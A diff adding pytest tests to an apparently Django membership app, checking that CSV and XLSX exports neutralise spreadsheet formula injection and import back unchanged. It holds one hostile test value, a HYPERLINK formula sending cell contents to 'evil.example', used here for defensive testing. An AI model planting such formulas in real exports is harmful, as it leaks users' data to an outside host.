@@ -591,3 +591,88 @@ def test_the_membership_resource_saves_nothing_of_a_bad_batch_whoever_calls_it(c
     assert result.has_validation_errors()
     assert not Member.objects.filter(full_name="Trần Thị Cúc").exists()
     assert not Membership.objects.filter(group=group_x, member__full_name="Trần Thị Cúc").exists()
+
+
+# Formulas: never run in the clerk's spreadsheet, and what is exported imports back
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'
+TRICKY_NAMES = [FORMULA_NAME, "'Trích dẫn", "-Âm", "@Tên"]
+
+
+def _export_file(client, model, resource, file_format) -> bytes:
+    selected = {
+        f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()
+    }
+    response = client.post(_url(model, "export"), {"format": file_format, **selected})
+    assert response.status_code == 200
+    return response.content
+
+
+@pytest.fixture
+def tricky_people(group_x):
+    people = []
+    for number, name in enumerate(TRICKY_NAMES):
+        person = Member.objects.create(full_name=name, phone=f"+8491200000{number}")
+        Membership.objects.create(member=person, group=group_x, started=datetime.date(2024, 1, 1))
+        people.append(person)
+    return people
+
+
+def test_a_csv_export_neutralises_formulas_and_imports_back_unchanged(clerk_client, tricky_people):
+    content = _export_file(clerk_client, Membership, MembershipResource, CSV_FORMAT)
+
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
+    cells = {row["full_name"] for row in rows}
+    # No cell starts as a formula: each such text is quoted for the spreadsheet.
+    assert cells == {"'" + name for name in TRICKY_NAMES}
+    assert {row["phone"] for row in rows} == {f"'+8491200000{n}" for n in range(4)}
+    people_before = Member.objects.count()
+
+    preview = _upload(clerk_client, Membership, content)
+    assert preview.context["result"].totals["update"] == len(TRICKY_NAMES), preview.content
+    _confirm(clerk_client, Membership, preview)
+
+    assert Member.objects.count() == people_before
+    for person in tricky_people:
+        saved = Member.objects.get(pk=person.pk)
+        assert (saved.full_name, saved.phone) == (person.full_name, person.phone)
+
+
+def test_an_xlsx_export_stores_formulas_as_text_and_imports_back_unchanged(
+    clerk_client, tricky_people
+):
+    content = _export_file(clerk_client, Membership, MembershipResource, XLSX_FORMAT)
+
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[1]]
+    names = [row[header.index("full_name")] for row in sheet.iter_rows(min_row=2)]
+    # The value exactly as saved, in a text cell: no spreadsheet evaluates it.
+    assert sorted(cell.value for cell in names) == sorted(TRICKY_NAMES)
+    assert {cell.data_type for cell in names} == {"s"}
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    people_before = Member.objects.count()
+
+    preview = _upload(
+        clerk_client, Membership, content, name="export.xlsx", file_format=XLSX_FORMAT
+    )
+    assert preview.context["result"].totals["update"] == len(TRICKY_NAMES), preview.content
+    _confirm(clerk_client, Membership, preview)
+
+    assert Member.objects.count() == people_before
+    for person in tricky_people:
+        saved = Member.objects.get(pk=person.pk)
+        assert (saved.full_name, saved.phone) == (person.full_name, person.phone)
+
+
+def test_a_hand_typed_quote_before_a_formula_is_read_as_the_text_after_it(clerk_client, group_x):
+    content = _csv(
+        MEMBERSHIP_COLUMNS,
+        [["'=1+1", "'+84912000009", group_x.pk, "volunteer", "0", "0", "2024-01-01", ""]],
+    )
+
+    preview = _upload(clerk_client, Membership, content)
+    _confirm(clerk_client, Membership, preview)
+
+    person = Member.objects.get(memberships__group=group_x)
+    assert (person.full_name, person.phone) == ("=1+1", "+84912000009")
